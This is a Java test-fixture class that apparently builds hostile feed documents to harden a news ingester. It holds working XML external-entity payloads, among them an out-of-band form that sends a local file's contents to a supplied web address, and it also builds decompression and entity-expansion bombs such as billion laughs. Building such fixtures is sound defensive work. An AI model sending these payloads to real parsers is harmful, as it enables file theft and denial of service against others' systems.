package newstracker.ingest.rig;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/// Documents made to break their reader.
public final class HostileDocuments {

    private static final String ITEM = "<item><title>T</title><description>%s</description></item>";
    private static final int MEGABYTE = 1024 * 1024;

    private HostileDocuments() {}

    /// Forms of XML that try to read `file` or to fetch `web`.
    public static List<String> xxe(String file, String web) {
        List<String> forms = new ArrayList<>();
        List<String> entities = List.of(
                "<!ENTITY x SYSTEM \"FILE\">",
                "<!ENTITY x PUBLIC \"a\" \"FILE\">",
                "<!ENTITY % p SYSTEM \"FILE\"> %p;",
                "<!ENTITY % p SYSTEM \"WEB\"> %p;",
                "<!ENTITY x SYSTEM \"WEB\">",
                "<!ENTITY % a \"<!ENTITY x SYSTEM 'FILE'>\"> %a;",
                "<!ENTITY % f SYSTEM \"FILE\"><!ENTITY % e \"<!ENTITY &#37; s SYSTEM 'WEB?%f;'>\">%e;%s;",
                "<!ENTITY x SYSTEM \"FILE\" NDATA gif><!NOTATION gif SYSTEM \"WEB\">",
                "<!ELEMENT rss ANY><!ATTLIST rss a ENTITY \"x\"><!ENTITY x SYSTEM \"WEB\">");
        for (String start : List.of(
                "<!DOCTYPE rss [", "<!doctype rss SYSTEM \"WEB\" [", "\uFEFF<!DOCTYPE rss PUBLIC \"-//A\" \"WEB\" [")) {
            for (String entity : entities) {
                forms.add("<?xml version=\"1.0\"?>" + start + entity + "]><rss><channel>" + ITEM.formatted("&x;")
                        + "</channel></rss>");
            }
        }
        for (String trick : List.of(
                "<?xml-stylesheet href=\"WEB\" type=\"text/xsl\"?><rss><channel>%s</channel></rss>",
                "<rss xmlns:xi=\"http://www.w3.org/2001/XInclude\"><channel><item><title>T</title><description>"
                        + "<xi:include href=\"FILE\" parse=\"text\"/></description></item>%s</channel></rss>",
                "<rss xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"a WEB\"><channel>%s</channel></rss>",
                "<rss xml:base=\"FILE\"><channel>%s</channel></rss>",
                "<rss><channel><item><title>T</title><link>FILE</link><description src=\"FILE\"/></item>%s</channel></rss>",
                "<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>T</title><content src=\"WEB\"/></entry>%s</feed>")) {
            forms.add(trick.formatted(ITEM.formatted("&x;")));
        }
        forms.add(" ".repeat(MEGABYTE) + forms.getFirst());
        return forms.stream()
                .map(form -> form.replace("FILE", file).replace("WEB", web))
                .toList();
    }

    /// Documents that become large or slow, by the encoding that they claim and a name.
    public static Map<String, byte[]> bombs() throws IOException {
        byte[] zeros = new byte[60 * MEGABYTE];
        Map<String, byte[]> bombs = new LinkedHashMap<>();
        bombs.put("gzip of zeros", gzip(zeros));
        bombs.put("deflate of zeros", deflate(zeros, false));
        bombs.put("deflate without a head", deflate(zeros, true));
        bombs.put("gzip,gzip", gzip(gzip(zeros)));
        bombs.put("gzip that holds another", gzip(gzip(zeros)));
        bombs.put("br was not asked for", gzip(zeros));
        bombs.put("zstd was not asked for", gzip(zeros));
        bombs.put("gzip of nothing", "no gzip at all".getBytes(StandardCharsets.UTF_8));
        bombs.put("gzip of items", gzip(rss("<item><title>x</title></item>".repeat(500_000))));
        bombs.put("plain and far too long", new byte[11 * MEGABYTE]);
        bombs.put(
                "plain laughs",
                (laughs() + "]>" + new String(rss(ITEM.formatted("&a29;")), StandardCharsets.UTF_8))
                        .getBytes(StandardCharsets.UTF_8));
        bombs.put(
                "plain quadratic",
                ("<!DOCTYPE rss [<!ENTITY a \"" + "a".repeat(50_000) + "\">]>"
                                + new String(rss(ITEM.formatted("&a;".repeat(50_000))), StandardCharsets.UTF_8))
                        .getBytes(StandardCharsets.UTF_8));
        bombs.put("plain nesting", rss("<x>".repeat(100_000)));
        bombs.put("plain attributes", ("<rss " + "a='1' ".repeat(1_000_000) + "/>").getBytes(StandardCharsets.UTF_8));
        bombs.put("plain names", rss("<item " + attributes() + "><title>T</title></item>"));
        bombs.put("plain text node", rss(ITEM.formatted("a".repeat(9_900_000))));
        bombs.put("plain items", rss("<item><title>x</title></item>".repeat(300_000)));
        bombs.put("plain brackets", "<".repeat(5_000_000).getBytes(StandardCharsets.UTF_8));
        bombs.put("plain ampersands", rss(ITEM.formatted("&".repeat(5_000_000))));
        bombs.put("plain doctype", ("<!DOCTYPE" + "[".repeat(5_000_000)).getBytes(StandardCharsets.UTF_8));
        bombs.put("plain HTML nesting", rss(ITEM.formatted("&lt;b&gt;".repeat(60_000))));
        bombs.put("plain JSON nesting", ("{\"items\":" + "[".repeat(2_000_000)).getBytes(StandardCharsets.UTF_8));
        bombs.put(
                "plain JSON number",
                ("{\"items\":[{\"id\":" + "9".repeat(5_000_000) + "}]}").getBytes(StandardCharsets.UTF_8));
        return bombs;
    }

    private static String laughs() {
        StringBuilder laughs = new StringBuilder("<!DOCTYPE rss [<!ENTITY a0 \"ha\">");
        for (int level = 1; level < 30; level++) {
            laughs.append("<!ENTITY a%d \"%s\">".formatted(level, ("&a" + (level - 1) + ";").repeat(10)));
        }
        return laughs.toString();
    }

    private static String attributes() {
        StringBuilder all = new StringBuilder();
        for (int number = 0; number < 50_000; number++) {
            all.append("a").append(number).append("='1' ");
        }
        return all.toString();
    }

    private static byte[] rss(String content) {
        return ("<rss><channel>" + content + "</channel></rss>").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] gzip(byte[] plain) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(plain);
        }
        return packed.toByteArray();
    }

    private static byte[] deflate(byte[] plain, boolean raw) throws IOException {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (DeflaterOutputStream deflate = new DeflaterOutputStream(packed, new Deflater(6, raw))) {
            deflate.write(plain);
        }
        return packed.toByteArray();
    }
}
